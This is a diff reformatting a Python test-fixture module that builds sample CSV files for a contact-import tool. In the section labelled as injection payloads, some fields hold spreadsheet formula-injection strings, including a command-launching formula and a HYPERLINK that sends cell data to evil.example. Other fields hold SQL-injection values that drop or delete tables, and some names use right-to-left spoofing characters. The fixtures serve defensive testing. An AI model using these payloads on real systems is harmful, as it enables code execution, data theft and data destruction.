@@ -68,11 +68,13 @@ def text_files() -> dict[str, bytes]:
         "utf16be_bom.csv": ("\ufeff" + rows_csv(UNICODE_ROWS)).encode("utf-16-be"),
         "utf16le_no_bom.csv": rows_csv(UNICODE_ROWS).encode("utf-16-le"),
         "utf16be_no_bom.csv": rows_csv(UNICODE_ROWS).encode("utf-16-be"),
-        "cp1252_smart_quotes.csv": rows_csv([
-            ["First Name", "Last Name", "Phone", "Product", "City"],
-            ["Renée", "“Smart” O’Neil", "(202) 555-0121", "Pro plan €49 – yearly", "Montréal"],
-            ["François", "Ça", "(202) 555-0122", "Basic €9", "Besançon"],
-        ]).encode("cp1252"),
+        "cp1252_smart_quotes.csv": rows_csv(
+            [
+                ["First Name", "Last Name", "Phone", "Product", "City"],
+                ["Renée", "“Smart” O’Neil", "(202) 555-0121", "Pro plan €49 – yearly", "Montréal"],
+                ["François", "Ça", "(202) 555-0122", "Basic €9", "Besançon"],
+            ]
+        ).encode("cp1252"),
         # --- quoting, ragged rows, NULs, newlines ---
         "unterminated_quote.csv": 'Name,Phone,City\nAda,(202) 555-0131,Boston\n"Bob,(202) 555-0132,Chicago\n'
         "Cleo,(202) 555-0133,Denver\nDan,(202) 555-0134,Austin\n",
@@ -89,8 +91,10 @@ def text_files() -> dict[str, bytes]:
         f"Ada,(202) 555-0171,{'x' * 20_000}\n"
         "Bob,(202) 555-0172,2 Elm St\n"
         f"Cleo,(202) 555-0173,{'y' * 10_000}\n",
-        "huge_column_count.csv": ",".join(["Phone"] + [f"c{i}" for i in range(1, 1500)]) + "\n"
-        + ",".join(["(202) 555-0174"] + [""] * 1499) + "\n",
+        "huge_column_count.csv": ",".join(["Phone"] + [f"c{i}" for i in range(1, 1500)])
+        + "\n"
+        + ",".join(["(202) 555-0174"] + [""] * 1499)
+        + "\n",
         "huge_row_width.csv": "Name,Phone\n" + "Ada,(202) 555-0175," + ",".join("v" for _ in range(100_000)) + "\n"
         "Bob,(202) 555-0176\n",
         # --- headers ---
@@ -106,37 +110,51 @@ def text_files() -> dict[str, bytes]:
         "null_phones.csv": "Name,Phone\nA,NULL\nB,NA\nC,N/A\nD,null\nE,none\nF,-\nG,#N/A\nH,   \nI,(202) 555-0205\n",
         "all_duplicates.csv": "Name,Phone\nA,(202) 555-0206\nB,+1 202-555-0206\nC,202.555.0206\nD,12025550206\n"
         "E,001 202 555 0206\n",
-        "country_column.csv": rows_csv([
-            ["Name", "Phone", "Country"],
-            ["Brit", "020 7946 0958", "UK"],
-            ["Deutsch", "030 901820", "Germany"],
-            ["Mex", "55 5208 3200", "Mexico"],
-            ["Yank", "(202) 555-0207", ""],
-            ["Franc", "+33 1 44 27 14 10", "US"],
-            ["Narnian", "0412 345 678", "Narnia"],
-            ["Aussie", "0412 345 678", "AU"],
-        ]),
+        "country_column.csv": rows_csv(
+            [
+                ["Name", "Phone", "Country"],
+                ["Brit", "020 7946 0958", "UK"],
+                ["Deutsch", "030 901820", "Germany"],
+                ["Mex", "55 5208 3200", "Mexico"],
+                ["Yank", "(202) 555-0207", ""],
+                ["Franc", "+33 1 44 27 14 10", "US"],
+                ["Narnian", "0412 345 678", "Narnia"],
+                ["Aussie", "0412 345 678", "AU"],
+            ]
+        ),
         # --- injection payloads stored verbatim ---
-        "formula_payloads.csv": rows_csv([
-            ["First Name", "Last Name", "Phone", "Email"],
-            ["=cmd|' /C calc'!A0", "Smith", "(202) 555-0211", "a@example.com"],
-            ["+SUM(1)", "Jones", "(202) 555-0212", "b@example.com"],
-            ["-2+3", "Brown", "(202) 555-0213", "c@example.com"],
-            ["@SUM(A1:A2)", "Lee", "(202) 555-0214", "d@example.com"],
-            ['=HYPERLINK("http://evil.example/?x="&A1)', "Dup", "(202) 555-0211", "e@example.com"],
-            ["Mallory", "Phone", "=1+2", "@f.example"],
-        ]),
-        "sql_values.csv": rows_csv([
-            ["First Name", "Last Name", "Phone", "Email", "City"],
-            ["Robert'); DROP TABLE contacts;--", "Tables", "(202) 555-0221", "bobby@example.com", "'); DROP TABLE contacts;--"],
-            ["x' OR '1'='1", "Quote", "(202) 555-0222", "a@b.c'; DELETE FROM contacts WHERE '1'='1", "Boston"],
-            ["Eve", "Bad", "'); DROP TABLE contacts;--", "eve@example.com", "Nowhere"],
-        ]),
-        "emoji_rtl.csv": rows_csv([
-            ["First Name", "Last Name", "Phone", "City"],
-            ["👩\u200d💻 Ada", "Lovelace\u202egnp.exe", "(202) 555-0231", "東京"],
-            ["\u202eevil\u202c", "مرحبا", "(202) 555-0232", "🏳️\u200d🌈 town"],
-        ]),
+        "formula_payloads.csv": rows_csv(
+            [
+                ["First Name", "Last Name", "Phone", "Email"],
+                ["=cmd|' /C calc'!A0", "Smith", "(202) 555-0211", "a@example.com"],
+                ["+SUM(1)", "Jones", "(202) 555-0212", "b@example.com"],
+                ["-2+3", "Brown", "(202) 555-0213", "c@example.com"],
+                ["@SUM(A1:A2)", "Lee", "(202) 555-0214", "d@example.com"],
+                ['=HYPERLINK("http://evil.example/?x="&A1)', "Dup", "(202) 555-0211", "e@example.com"],
+                ["Mallory", "Phone", "=1+2", "@f.example"],
+            ]
+        ),
+        "sql_values.csv": rows_csv(
+            [
+                ["First Name", "Last Name", "Phone", "Email", "City"],
+                [
+                    "Robert'); DROP TABLE contacts;--",
+                    "Tables",
+                    "(202) 555-0221",
+                    "bobby@example.com",
+                    "'); DROP TABLE contacts;--",
+                ],
+                ["x' OR '1'='1", "Quote", "(202) 555-0222", "a@b.c'; DELETE FROM contacts WHERE '1'='1", "Boston"],
+                ["Eve", "Bad", "'); DROP TABLE contacts;--", "eve@example.com", "Nowhere"],
+            ]
+        ),
+        "emoji_rtl.csv": rows_csv(
+            [
+                ["First Name", "Last Name", "Phone", "City"],
+                ["👩\u200d💻 Ada", "Lovelace\u202egnp.exe", "(202) 555-0231", "東京"],
+                ["\u202eevil\u202c", "مرحبا", "(202) 555-0232", "🏳️\u200d🌈 town"],
+            ]
+        ),
         # --- delimiters and line endings ---
         "semicolon.csv": "Vorname;Nachname;Telefon;Straße\nJürgen;Müller;+49 30 901820;Hauptstr. 1, Hinterhaus\n"
         "Anna;Schmidt;+49 151 23456789;Weg 2\n",
@@ -146,16 +164,54 @@ def text_files() -> dict[str, bytes]:
         "cr_only.csv": "Name,Phone,City\rAda,(202) 555-0257,Boston\rBob,,Denver\rCleo,(202) 555-0258,Austin\r",
         "mixed_newlines.csv": "Name,Phone\r\nAda,(202) 555-0259\nBob,not a phone\rCleo,(202) 555-0260\r\n",
         # --- a real export ---
-        "german_outlook.csv": rows_csv([
-            ["Anrede", "Vorname", "Nachname", "Firma", "Straße geschäftlich", "Ort geschäftlich",
-             "Postleitzahl geschäftlich", "Land/Region geschäftlich", "Telefon geschäftlich", "Mobiltelefon",
-             "E-Mail-Adresse", "Notizen"],
-            ["Herr", "Jürgen", "Weiß", "Müller GmbH", "Hauptstraße 1", "Berlin", "10115", "Deutschland",
-             "(030) 901820", "0151 23456789", "juergen@example.de", "Größe: XL"],
-            ["Frau", "Änne", "Groß", "", "Ringstraße 5", "Wien", "1010", "Österreich", "01 5123456", "",
-             "aenne@example.at", ""],
-            ["", "Ole", "Ødegård", "", "", "", "", "", "", "", "ole@example.no", "kein Telefon"],
-        ], newline="\r\n").encode("cp1252"),
+        "german_outlook.csv": rows_csv(
+            [
+                [
+                    "Anrede",
+                    "Vorname",
+                    "Nachname",
+                    "Firma",
+                    "Straße geschäftlich",
+                    "Ort geschäftlich",
+                    "Postleitzahl geschäftlich",
+                    "Land/Region geschäftlich",
+                    "Telefon geschäftlich",
+                    "Mobiltelefon",
+                    "E-Mail-Adresse",
+                    "Notizen",
+                ],
+                [
+                    "Herr",
+                    "Jürgen",
+                    "Weiß",
+                    "Müller GmbH",
+                    "Hauptstraße 1",
+                    "Berlin",
+                    "10115",
+                    "Deutschland",
+                    "(030) 901820",
+                    "0151 23456789",
+                    "juergen@example.de",
+                    "Größe: XL",
+                ],
+                [
+                    "Frau",
+                    "Änne",
+                    "Groß",
+                    "",
+                    "Ringstraße 5",
+                    "Wien",
+                    "1010",
+                    "Österreich",
+                    "01 5123456",
+                    "",
+                    "aenne@example.at",
+                    "",
+                ],
+                ["", "Ole", "Ødegård", "", "", "", "", "", "", "", "ole@example.no", "kein Telefon"],
+            ],
+            newline="\r\n",
+        ).encode("cp1252"),
     }
     return {name: value if isinstance(value, bytes) else value.encode("utf-8") for name, value in files.items()}
 
